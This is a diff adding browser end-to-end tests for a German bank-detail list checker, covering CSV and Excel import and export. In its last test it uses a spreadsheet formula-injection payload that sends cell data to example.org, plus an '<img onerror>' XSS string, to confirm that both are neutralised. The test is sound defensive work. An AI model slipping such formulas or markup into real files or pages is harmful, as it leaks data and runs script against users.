@@ -1,0 +1,129 @@
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import {
+  button,
+  check,
+  choose,
+  counts,
+  description,
+  downloaded,
+  downloadedText,
+  rowTexts,
+  waitForResult,
+} from '../../../test/list-visitor.ts';
+import { useSite } from '../../../test/site-visitor.ts';
+
+const site = useSite();
+const sample = (name: string) =>
+  readFileSync(new URL(`../../../../calculator/test/workbooks/${name}`, import.meta.url));
+
+describe('a file', () => {
+  it('from Excel in ISO-8859-1 is read, and the result is a file that Excel reads as UTF-8', async () => {
+    const { page } = await site.open('/listen');
+    await choose(
+      page,
+      'Mitglieder März.csv',
+      Buffer.from('Straße;BLZ;Konto\r\nJürgen Groß;37040044;532013000\r\n', 'latin1'),
+    );
+    await waitForResult(page);
+    expect(await description(page)).toContain('Mitglieder März.csv: 1\u00a0Zeile.');
+    expect((await rowTexts(page))[0]).toContain('Jürgen Groß');
+    const { name, text } = await downloadedText(page, 'Als CSV-Datei herunterladen');
+    expect(name).toBe('ergebnis.csv');
+    expect(text).toBe(
+      '\ufeffStraße;BLZ;Konto;IBAN;BIC;Bank;Ergebnis;Hinweis\r\nJürgen Groß;37040044;532013000;DE89370400440532013000;COBADEFFXXX;Commerzbank;richtig;\r\n',
+    );
+  });
+
+  it('can be dropped anywhere on the page', async () => {
+    const { page } = await site.open('/listen');
+    await page.evaluate(() => {
+      const dataTransfer = new DataTransfer();
+      dataTransfer.items.add(new File(['DE89370400440532013000\n'], 'liste.txt'));
+      const happens = (name: string) =>
+        document.body.dispatchEvent(new DragEvent(name, { dataTransfer, bubbles: true, cancelable: true }));
+      // Events that are not prevented would make the browser open the file.
+      return [happens('dragover'), happens('drop')];
+    });
+    await waitForResult(page);
+    expect(await description(page)).toContain('liste.txt: 1\u00a0Zeile');
+  });
+
+  it('that is no list is refused with what to do', async () => {
+    const { page } = await site.open('/listen');
+    for (const [name, content, fault] of [
+      ['liste.xls', sample('liste.xls'), 'Das ist eine alte Excel-Datei (.xls).'],
+      ['liste.xlsx', sample('kennwort.xlsx'), 'mit einem Kennwort geschützt'],
+      ['liste.xlsx', sample('liste.xlsx').subarray(0, 5000), 'Die Datei ist beschädigt.'],
+      ['liste.pdf', Buffer.from('%PDF-1.7'), 'Das ist keine Textdatei.'],
+    ] as const) {
+      await choose(page, name, content);
+      await page.locator('[data-fault]', { hasText: fault }).waitFor();
+    }
+    // A file of the same name can be chosen again.
+    await choose(page, 'liste.pdf', Buffer.from('DE89370400440532013000'));
+    await waitForResult(page);
+  });
+
+  it('from Excel or LibreOffice is read, and given back as a file whose cells are text', async () => {
+    const { page, sent } = await site.open('/listen');
+    const asked = () =>
+      sent.map(({ url }) => new URL(url).pathname).filter((path) => path === '/workbook.js');
+    await check(page, 'BLZ;Konto;IBAN\n37040044;532013000;\n');
+    expect(asked()).toEqual([]);
+    const { name, bytes } = await downloaded(page, 'Als Excel-Datei herunterladen');
+    expect(name).toBe('ergebnis.xlsx');
+    expect(asked()).toEqual(['/workbook.js']);
+    await choose(page, name, bytes);
+    await page.getByText('ergebnis.xlsx: 1').waitFor();
+    await waitForResult(page);
+    // It has the columns of both checks, each with a name of its own.
+    await button(page, 'Spalten ändern').click();
+    expect(await page.locator('#spalte-iban option').allInnerTexts()).toEqual([
+      ...['keine', 'BLZ', 'Konto', 'IBAN', 'IBAN (neu)', 'BIC', 'Bank', 'Ergebnis', 'Hinweis'],
+    ]);
+
+    await choose(page, 'liste.ods', sample('liste.ods'));
+    await button(page, 'Dieses Blatt prüfen').click();
+    await waitForResult(page);
+    expect(await description(page)).toContain('liste.ods, Blatt „');
+  });
+
+  it('from Excel says that the program for it can’t be loaded, and keeps the result of another list', async () => {
+    const { page } = await site.open('/faq');
+    await page.context().route('**/workbook.js', (route) => route.fulfill({ status: 404 }));
+    await page.goto(`${site.url}/listen`);
+    await choose(page, 'liste.xlsx', sample('liste.xlsx'));
+    await page.locator('[data-fault]', { hasText: 'für Excel-Dateien ließ sich nicht laden' }).waitFor();
+    await check(page, 'DE89370400440532013000');
+    await button(page, 'Als Excel-Datei herunterladen').click();
+    await page.locator('[data-writing]', { hasText: 'für Excel-Dateien ließ sich nicht laden' }).waitFor();
+    await downloaded(page, 'Als CSV-Datei herunterladen');
+    await page.context().unroute('**/workbook.js');
+    await downloaded(page, 'Als Excel-Datei herunterladen');
+  });
+
+  it('can’t bring a formula into the download, nor markup into the page', async () => {
+    const { page } = await site.open('/listen');
+    const formula = '=HYPERLINK("https://example.org/?"&A1)';
+    const markup = '<img src=x onerror=alert(1)>';
+    await check(
+      page,
+      `"${formula.replaceAll('"', '""')}";BLZ;Konto\n@SUM(1);37040044;532013000\n${markup};37040044;532013001\n"${formula.replaceAll('"', '""')}";70150000;20228888`,
+    );
+    expect((await rowTexts(page)).join('\n')).toContain(markup);
+    expect(await page.locator('[data-result] img').count()).toBe(0);
+    const { text } = await downloadedText(page, 'Als CSV-Datei herunterladen');
+    expect(text).toContain(`"'=HYPERLINK(""https://example.org/?""&A1)"`);
+    expect(text).toMatch(/\r\n"?'@SUM\(1\)"?;/);
+    expect(text).not.toMatch(/(?:^|;|\n)"?[=@]/);
+    // The filters have the same words as the file.
+    const words = Object.keys(await counts(page));
+    const outcomes = text
+      .split('\r\n')
+      .slice(1, -1)
+      .map((line) => line.split(';').at(-2));
+    expect(outcomes).toHaveLength(3);
+    for (const outcome of outcomes) expect(words).toContain(outcome);
+  });
+});
